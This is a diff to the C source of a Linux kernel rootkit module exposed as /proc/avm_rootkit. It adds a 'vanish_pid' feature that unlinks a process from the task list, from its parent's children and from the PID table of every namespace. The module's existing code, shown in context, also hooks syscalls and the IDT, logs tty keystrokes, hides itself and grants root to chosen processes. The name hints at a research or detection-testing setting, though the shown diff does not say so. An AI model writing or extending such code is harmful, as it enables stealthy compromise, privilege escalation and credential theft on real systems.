@@ -8,6 +8,7 @@
  *   echo 'hide_pid 123' > /proc/avm_rootkit  (hide_pid 0: unhide)
  *   echo 'hide_tid 124' > /proc/avm_rootkit  (hide_tid 0: relink)
  *   echo 'hide_tid_count 124' > /proc/avm_rootkit  (hide_tid_count 0: relink)
+ *   echo 'vanish_pid 123' > /proc/avm_rootkit  (vanish_pid 0: restore)
  *   echo 'root_pid 123' > /proc/avm_rootkit  (root_pid 0: restore)
  *   echo 'euid_pid 123' > /proc/avm_rootkit  (euid_pid 0: restore)
  *   echo 'reparent_pid 123' > /proc/avm_rootkit  (reparent_pid 0: restore)
@@ -868,6 +869,62 @@ static int untree_task(pid_t nr)
 	return 0;
 }
 
+/*
+ * ---- (k) vanish_pid: a process off every list: the task list (as
+ * hide_pid), its parent's children (as untree_pid) and the PID table
+ * (its struct pid replaced by NULL at its number in every namespace, as
+ * alloc_pid leaves a number it has not filled yet) ----
+ */
+
+static struct task_struct *vanished_task;
+static spinlock_t *pidmap_lock_p;
+
+static void set_pid_entries(struct task_struct *t, bool present)
+{
+	struct pid *pid = task_pid(t);
+	unsigned int i;
+
+	if (!pid)
+		return;
+	spin_lock_irq(pidmap_lock_p);
+	for (i = 0; i <= pid->level; i++)
+		idr_replace(&pid->numbers[i].ns->idr, present ? pid : NULL, pid->numbers[i].nr);
+	spin_unlock_irq(pidmap_lock_p);
+}
+
+static int vanish_task(pid_t nr)
+{
+	struct task_struct *t;
+	int err;
+
+	if (!pidmap_lock_p)
+		return -ENOENT;
+	if (vanished_task) {
+		if (pid_alive(vanished_task))
+			set_pid_entries(vanished_task, true);
+		put_task_struct(vanished_task);
+		vanished_task = NULL;
+		untree_task(0);
+		hide_task(0);
+	}
+	if (nr <= 0)
+		return 0;
+	t = get_task(nr);
+	if (!t)
+		return -ESRCH;
+	err = hide_task(nr);
+	if (!err)
+		err = untree_task(nr);
+	if (err) {
+		hide_task(0);
+		put_task_struct(t);
+		return err;
+	}
+	set_pid_entries(t, false);
+	vanished_task = t;
+	return 0;
+}
+
 /* ---- /proc/avm_rootkit ---- */
 
 static int rk_show(char *buf, size_t size)
@@ -875,7 +932,7 @@ static int rk_show(char *buf, size_t size)
 	return scnprintf(buf, size,
 			 "syscall %d\nidt %d\ntext %d\nrodata %d\nfops %d\nkeylog %d\nnf_hook %d\n"
 			 "nf_hook_netns %u\nnf_hook_ingress %d\nhide_netns %u\nhide_module %d\n"
-			 "hide_pid %d\nhide_tid %d\nhide_tid_count %d\nroot_pid %d\neuid_pid %d\nreparent_pid %d\nuntree_pid %d\n"
+			 "hide_pid %d\nhide_tid %d\nhide_tid_count %d\nvanish_pid %d\nroot_pid %d\neuid_pid %d\nreparent_pid %d\nuntree_pid %d\n"
 			 "getpid_hook_calls %d\ntcp_init_hook_calls %d\ntty_bytes_seen %d\n"
 			 "nf_packets_seen %d\n"
 			 "tcp_prot_init %s\nn_tty_receive_buf2 %s\n"
@@ -886,6 +943,7 @@ static int rk_show(char *buf, size_t size)
 			 hidden_task ? hidden_task->pid : 0,
 			 hidden_thread && !hidden_thread_uncounted ? hidden_thread->pid : 0,
 			 hidden_thread && hidden_thread_uncounted ? hidden_thread->pid : 0,
+			 vanished_task ? vanished_task->pid : 0,
 			 rooted_euid_only ? 0 : rooted_pid, rooted_euid_only ? rooted_pid : 0,
 			 reparented_task ? reparented_task->pid : 0,
 			 untreed_task ? untreed_task->pid : 0,
@@ -951,6 +1009,8 @@ static ssize_t rk_write(struct file *f, const char __user *ubuf, size_t count, l
 		err = hide_thread(val, false);
 	else if (!strcmp(name, "hide_tid_count"))
 		err = hide_thread(val, true);
+	else if (!strcmp(name, "vanish_pid"))
+		err = vanish_task(val);
 	else if (!strcmp(name, "root_pid"))
 		err = root_task(val, false);
 	else if (!strcmp(name, "euid_pid"))
@@ -1009,6 +1069,7 @@ static int __init rk_init(void)
 	module_mutex_p = (struct mutex *)lookup("module_mutex");
 	modules_p = (struct list_head *)lookup("modules");
 	tasklist_lock_p = (rwlock_t *)lookup("tasklist_lock");
+	pidmap_lock_p = (spinlock_t *)lookup("pidmap_lock");
 	n_tty_ops_p = (struct tty_ldisc_ops *)lookup("n_tty_ops");
 
 	rk_entry = proc_create("avm_rootkit", 0600, NULL, &rk_ops);
@@ -1034,6 +1095,7 @@ static void __exit rk_exit(void)
 	set_nf_hook_ingress(false);
 	set_hide_netns(false);
 	set_hide_module(false);
+	vanish_task(0);
 	hide_task(0);
 	hide_thread(0, false);
 	root_task(0, false);
